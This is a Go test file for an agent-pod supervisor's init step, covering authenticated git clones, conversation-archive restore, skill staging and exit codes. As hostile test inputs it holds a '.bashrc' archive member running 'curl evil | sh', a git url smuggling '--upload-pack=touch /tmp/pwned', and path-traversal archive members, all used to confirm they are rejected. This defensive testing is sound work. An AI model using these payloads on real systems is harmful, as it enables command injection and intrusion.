package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/agentplane/agentplane/libs/runspec"
	eventsv1 "github.com/agentplane/agentplane/proto/agentplane/events/v1"
)

// git runs git in dir with a clean, test-only configuration.
func git(t *testing.T, dir string, env []string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append([]string{"HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1", "PATH=/usr/bin:/bin",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@x", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@x"}, env...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// originRepo makes a bare repository with two commits, the first tagged
// v1, and returns its path.
func originRepo(t *testing.T) string {
	t.Helper()
	work, root := t.TempDir(), t.TempDir()
	git(t, work, nil, "init", "-q", "-b", "main")
	mustWrite(t, filepath.Join(work, "README.md"), []byte("v1\n"))
	git(t, work, nil, "add", ".")
	git(t, work, nil, "commit", "-q", "-m", "one")
	git(t, work, nil, "tag", "v1")
	mustWrite(t, filepath.Join(work, "README.md"), []byte("v2\n"))
	git(t, work, nil, "commit", "-q", "-am", "two")
	bare := filepath.Join(root, "app.git")
	git(t, root, nil, "clone", "-q", "--bare", work, bare)
	git(t, bare, nil, "config", "http.receivepack", "true")
	return bare
}

// gitHTTPServer serves the bare repos under root through git's own
// http-backend and demands the x-access-token login with token.
func gitHTTPServer(t *testing.T, root, token string) *httptest.Server {
	t.Helper()
	backend := filepath.Join(git(t, root, nil, "--exec-path"), "git-http-backend")
	h := &cgi.Handler{Path: backend, Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=agent"}}
	want := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+token))
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != want {
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		h.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// TestInitPreparesThePod: bundle copy, an authenticated clone at a tag
// with the credential helper kept (the agent can push), a path escape
// skipped, the vendor's MCP config written, and the event sequence
// carried on into the run.
func TestInitPreparesThePod(t *testing.T) {
	t.Parallel()
	const token = "tok-3b9e1c"
	bare := originRepo(t)
	srv := gitHTTPServer(t, filepath.Dir(bare), token)
	spec := jobSpec(vendorModels["gemini"], "go")
	spec.MCPServers = []runspec.MCPServer{{Name: "lore", Transport: "http", URL: "http://lore/mcp", HeaderEnv: "LORE_MCP_AUTH"}}
	p := newPod(t, spec).withNATS()
	p.env[runspec.EnvRepos] = `[{"name":"app","url":"` + srv.URL + `/app.git","ref":"v1","path":"src/app","token_secret":"gh-token"},` +
		`{"name":"evil","url":"` + srv.URL + `/app.git","path":"../escaped"}]`
	p.env["gh-token"] = token
	p.env["LORE_MCP_AUTH"] = "Bearer mcp-secret"

	r := p.run("init")
	if r.code != 0 {
		t.Fatalf("init exit %d", r.code)
	}
	self, _ := os.ReadFile(supervisorBin)
	bundle, err := os.ReadFile(filepath.Join(p.agentDir, "bin", "supervisor"))
	if err != nil || !bytes.Equal(self, bundle) {
		t.Fatalf("bundle not copied: %v", err)
	}
	if fi, _ := os.Stat(filepath.Join(p.agentDir, "bin", "supervisor")); fi.Mode()&0o111 == 0 {
		t.Fatal("bundle is not executable")
	}
	clone := filepath.Join(p.workspace, "src", "app")
	if got, _ := os.ReadFile(filepath.Join(clone, "README.md")); string(got) != "v1\n" {
		t.Fatalf("clone not at v1: %q", got)
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(p.workspace), "escaped")); err == nil {
		t.Fatal("a repo path outside the workspace was cloned")
	}
	cfg, _ := os.ReadFile(filepath.Join(clone, ".git", "config"))
	if !bytes.Contains(cfg, []byte("git-credential")) || bytes.Contains(cfg, []byte(token)) {
		t.Fatalf("clone config must keep the helper and never the token:\n%s", cfg)
	}
	settings, err := os.ReadFile(filepath.Join(p.agentDir, ".gemini", "settings.json"))
	if err != nil || !bytes.Contains(settings, []byte("${LORE_MCP_AUTH}")) || bytes.Contains(settings, []byte("mcp-secret")) {
		t.Fatalf("gemini MCP config: %v\n%s", err, settings)
	}
	for _, out := range [][]byte{r.stdout, r.stderr} {
		if bytes.Contains(out, []byte(token)) {
			t.Fatal("token in init output")
		}
	}

	// The agent pushes with the kept helper: the token comes from the
	// run's environment at push time, under its shell-safe alias.
	git(t, clone, []string{"AGENTPLANE_GIT_TOKEN_GH_TOKEN=" + token}, "push", "-q", "origin", "HEAD:refs/heads/agent-branch")
	if got := git(t, bare, nil, "rev-parse", "agent-branch"); got == "" {
		t.Fatal("push did not land")
	}

	initEvents := p.natsEvents()
	checkStream(t, initEvents, 1)
	if lifecycle(initEvents[0]) != "init/started" || lifecycle(initEvents[len(initEvents)-1]) != "init/succeeded" {
		t.Fatalf("init stream %s .. %s", lifecycle(initEvents[0]), lifecycle(initEvents[len(initEvents)-1]))
	}
	// The run continues the sequence, so no dedupe id is reused.
	if r := p.run("run"); r.code != 0 {
		t.Fatalf("run exit %d", r.code)
	}
	all := p.natsEvents()
	checkStream(t, all, 1)
	if lifecycle(all[len(initEvents)]) != "agent/started" {
		t.Fatalf("run did not follow init: %s", lifecycle(all[len(initEvents)]))
	}
}

// conversationArchive builds the tar.gz a conversation source serves.
func conversationArchive(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var members [][2]string
	for name, body := range files {
		members = append(members, [2]string{name, body})
	}
	return tarGz(t, members...)
}

// tarGz builds a tar.gz of regular files, in the order given.
func tarGz(t *testing.T, members ...[2]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, m := range members {
		name, body := m[0], m[1]
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o600, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestInitRestoresConversation: a good archive is unpacked and resumed;
// anything the store gets wrong (down, non-2xx, a bad or hostile archive)
// or an unusable header line is skipped. A skipped restore reports
// init/skipped with a cause and a credential-free message, leaves the
// state dir empty and the skip marker behind, the init still succeeds, and
// the run starts a fresh conversation instead of resuming a missing one.
func TestInitRestoresConversation(t *testing.T) {
	const session = ".claude/projects/-workspace/sess-1.jsonl"
	good := conversationArchive(t, map[string]string{session: `{"type":"user"}` + "\n"})
	tests := []struct {
		name    string
		archive []byte
		status  int
		down    bool
		auth    string
		reason  string // empty: restored
		detail  string
	}{
		{name: "the archive is unpacked into the vendor's state dir and resumed", archive: good},
		{name: "an unreachable store is skipped", down: true, reason: "unreachable", detail: "connection refused"},
		{name: "a store answering 503 is skipped with the status", archive: good, status: 503, reason: "status-503", detail: ": status 503;"},
		{name: "a missing conversation is skipped with the status", status: 404, reason: "status-404", detail: ": status 404;"},
		{name: "a body that is not an archive is skipped as a bad archive", archive: []byte("<html>maintenance</html>"), reason: "bad-archive", detail: "not a gzip archive"},
		{name: "a member escaping HOME is skipped as a bad archive", archive: conversationArchive(t, map[string]string{"../../outside.txt": "x"}), reason: "bad-archive"},
		{name: "a member outside the state dir is skipped as a bad archive", archive: conversationArchive(t, map[string]string{".bashrc": "curl evil | sh"}), reason: "bad-archive"},
		{name: "an archive failing half-way leaves no partial session",
			archive: tarGz(t, [2]string{session, "{}\n"}, [2]string{"../../outside.txt", "x"}), reason: "bad-archive", detail: "outside"},
		{name: "an unusable header line is skipped without its value", archive: good, auth: "X-Conv conv-token", reason: "auth-header", detail: "header from conv-auth"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch {
				case tt.status != 0:
					w.WriteHeader(tt.status)
				case r.Header.Get("X-Conv") != "conv-token" || r.URL.Path != "/conversations/sess-1" || tt.archive == nil:
					http.NotFound(w, r)
				default:
					_, _ = w.Write(tt.archive)
				}
			}))
			defer srv.Close()
			base := srv.URL
			if tt.down {
				srv.Close()
			}
			p := newPod(t, jobSpec(vendorModels["claude"], "go")).withNATS()
			// Userinfo in the source must never reach a log, event or message.
			p.env[runspec.EnvConversationSource] = strings.Replace(base, "http://", "http://u:url-secret@", 1) + "/conversations"
			p.env[runspec.EnvConversationID] = "sess-1"
			p.env[runspec.EnvConversationAuth] = "conv-auth"
			p.env["conv-auth"] = "X-Conv: conv-token"
			if tt.auth != "" {
				p.env["conv-auth"] = tt.auth
			}
			r := p.run("init")
			if r.code != 0 {
				t.Fatalf("init exit %d, want 0: a conversation store never fails the pod", r.code)
			}
			for _, secret := range []string{"conv-token", "url-secret"} {
				if bytes.Contains(r.stderr, []byte(secret)) || bytes.Contains(r.stdout, []byte(secret)) {
					t.Fatalf("credential %q in init output", secret)
				}
			}
			evs := p.natsEvents()
			if got := lifecycle(evs[len(evs)-1]); got != "init/succeeded" {
				t.Fatalf("terminal event %s, want init/succeeded", got)
			}
			var skipped []*eventsv1.Lifecycle
			for i, ev := range evs {
				if lc := ev.GetLifecycle(); lc.GetStatus() == "skipped" {
					skipped = append(skipped, lc)
					if prev := evs[i-1].GetLifecycle(); prev.GetStatus() != "running" || prev.GetTool() != "conversation" {
						t.Errorf("the skip follows the conversation step's start, not %v", prev)
					}
				}
			}
			_, markerErr := os.Stat(filepath.Join(p.agentDir, ".agentplane", "conversation-skipped"))
			_, sessionErr := os.Stat(filepath.Join(p.agentDir, session))
			if tt.reason == "" {
				if len(skipped) != 0 || markerErr == nil || sessionErr != nil {
					t.Fatalf("want the conversation restored: skipped %v, marker %v, session %v", skipped, markerErr, sessionErr)
				}
			} else {
				if len(skipped) != 1 {
					t.Fatalf("want one init/skipped event, got %v", skipped)
				}
				lc := skipped[0]
				wantMsg := `conversation "sess-1" could not be restored from ` + base + `/conversations: `
				if lc.GetPhase() != "init" || lc.GetTool() != "conversation" || lc.GetReason() != tt.reason ||
					!strings.HasPrefix(lc.GetMessage(), wantMsg) || !strings.HasSuffix(lc.GetMessage(), "; starting a fresh conversation") ||
					!strings.Contains(lc.GetMessage(), tt.detail) || strings.Contains(lc.GetMessage(), "\n") {
					t.Fatalf("skip event %v, want reason %q and a one-line message starting %q naming %q", lc, tt.reason, wantMsg, tt.detail)
				}
				if markerErr != nil {
					t.Fatalf("no skip marker: %v", markerErr)
				}
				if entries, err := os.ReadDir(filepath.Join(p.agentDir, ".claude", "projects")); err != nil || len(entries) != 0 {
					t.Fatalf("the state dir holds a half-restored session: %v %v", entries, err)
				}
				if _, err := os.Stat(filepath.Join(filepath.Dir(p.agentDir), "outside.txt")); err == nil {
					t.Fatal("an archive member escaped HOME")
				}
			}

			// The run resumes a restored conversation and starts a fresh
			// one otherwise: the mock CLI reports the resumed id.
			run := p.run("run")
			if run.code != 0 {
				t.Fatalf("run exit %d", run.code)
			}
			id := resultSessionID(t, run.stdout)
			if resumed := id == "sess-1"; resumed != (tt.reason == "") {
				t.Fatalf("the run's session is %q: resumed %v, want %v", id, resumed, tt.reason == "")
			}
		})
	}
}

// resultSessionID is the session id on the CLI's result line in stdout.
func resultSessionID(t *testing.T, stdout []byte) string {
	t.Helper()
	for _, line := range bytes.Split(stdout, []byte("\n")) {
		var m struct {
			Type      string `json:"type"`
			SessionID string `json:"session_id"`
		}
		if json.Unmarshal(line, &m) == nil && m.Type == "result" {
			return m.SessionID
		}
	}
	t.Fatalf("no result line in:\n%s", lastBytes(stdout, 4000))
	return ""
}

func TestInitFailureCodes(t *testing.T) {
	bare := originRepo(t)
	tests := []struct {
		name   string
		spec   *runspec.Spec
		repos  string
		code   int
		reason string
	}{
		{name: "a missing run spec exits 11", code: 11, reason: "spec"},
		{name: "unparsable AGENT_REPOS exits 13", spec: jobSpec("claude-x", "go"), repos: "{", code: 13, reason: "repos"},
		{name: "an option-shaped ref is refused and exits 14", spec: jobSpec("claude-x", "go"),
			repos: `[{"name":"app","url":"file://` + bare + `","ref":"--orphan=x"}]`, code: 14, reason: "clone"},
		{name: "an option-shaped url is refused and exits 14", spec: jobSpec("claude-x", "go"),
			repos: `[{"name":"app","url":"--upload-pack=touch /tmp/pwned"}]`, code: 14, reason: "clone"},
		{name: "an unknown ref exits 14", spec: jobSpec("claude-x", "go"),
			repos: `[{"name":"app","url":"file://` + bare + `","ref":"no-such-ref"}]`, code: 14, reason: "clone"},
		{name: "codex refuses an sse MCP server and exits 16",
			spec: &runspec.Spec{Model: "gpt-5-codex", Prompt: "go", MCPServers: []runspec.MCPServer{{Name: "s", Transport: "sse", URL: "http://x"}}},
			code: 16, reason: "config"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			p := newPod(t, tt.spec).withNATS()
			if tt.repos != "" {
				p.env[runspec.EnvRepos] = tt.repos
			}
			r := p.run("init")
			if r.code != tt.code {
				t.Fatalf("exit %d, want %d", r.code, tt.code)
			}
			if !bytes.Contains(r.stderr, []byte("supervisor init: "+tt.reason)) {
				t.Fatalf("stderr lacks reason %q", tt.reason)
			}
			evs := p.natsEvents()
			lc := evs[len(evs)-1].GetLifecycle()
			if lc.GetPhase() != "init" || lc.GetStatus() != "failed" || lc.GetReason() != tt.reason || lc.GetExitCode() != int32(tt.code) {
				t.Fatalf("terminal event %v", lc)
			}
			// The controller shows the message on the Agent.
			if lc.GetMessage() == "" || strings.Contains(lc.GetMessage(), "\n") {
				t.Fatalf("terminal event's message %q is not one line of detail", lc.GetMessage())
			}
		})
	}
}

// TestInitStagesSkills: settings.json and the named skills come from
// skills_source; a refused name or a missing skill does not fail the pod
// (skills are best-effort); claude then runs with the settings.
func TestInitStagesSkills(t *testing.T) {
	t.Parallel()
	skill := conversationArchive(t, map[string]string{"review/SKILL.md": "# review\n"})
	var mu sync.Mutex
	var paths []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		paths = append(paths, r.URL.Path)
		mu.Unlock()
		switch r.URL.Path {
		case "/skills/settings.json":
			_, _ = w.Write([]byte(`{"permissions":{}}`))
		case "/skills/review.tar.gz":
			_, _ = w.Write(skill)
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	p := newPod(t, jobSpec(vendorModels["claude"], "go")).withNATS()
	p.env[runspec.EnvSkillsSource] = srv.URL + "/skills"
	p.env[runspec.EnvSkills] = `["review","absent","../etc",".hidden"]`
	if r := p.run("init"); r.code != 0 {
		t.Fatalf("init exit %d", r.code)
	}
	if b, err := os.ReadFile(filepath.Join(p.agentDir, ".claude", "skills", "review", "SKILL.md")); err != nil || string(b) != "# review\n" {
		t.Fatalf("skill not staged: %v %q", err, b)
	}
	if _, err := os.Stat(filepath.Join(p.agentDir, ".claude", "settings.json")); err != nil {
		t.Fatalf("settings not staged: %v", err)
	}
	mu.Lock()
	for _, path := range paths {
		if strings.Contains(path, "etc") || strings.Contains(path, "hidden") {
			t.Errorf("refused skill name was fetched: %s", path)
		}
	}
	mu.Unlock()
	if r := p.run("run"); r.code != 0 {
		t.Fatalf("run with staged settings exit %d", r.code)
	}
}

// TestInitHandsVolumesToTheAgentUser: run as root, init chowns the agent
// volume, HOME and the workspace (clones included) to the agent's uid, so
// the non-root agent container can write them.
func TestInitHandsVolumesToTheAgentUser(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("chown needs root; the init container runs as root")
	}
	bare := originRepo(t)
	p := newPod(t, jobSpec(vendorModels["claude"], "go"))
	p.env["SUPERVISOR_CHOWN"] = "1000:1001"
	p.env[runspec.EnvRepos] = `[{"name":"app","url":"file://` + bare + `"}]`
	if r := p.run("init"); r.code != 0 {
		t.Fatalf("init exit %d", r.code)
	}
	for _, path := range []string{
		filepath.Join(p.agentDir, "bin", "supervisor"),
		filepath.Join(p.workspace, "app", "README.md"),
		filepath.Join(p.workspace, "app", ".git", "config"),
		p.workspace,
	} {
		fi, err := os.Lstat(path)
		if err != nil {
			t.Fatal(err)
		}
		st := fi.Sys().(*syscall.Stat_t)
		if st.Uid != 1000 || st.Gid != 1001 {
			t.Errorf("%s is owned by %d:%d, want 1000:1001", path, st.Uid, st.Gid)
		}
	}
}
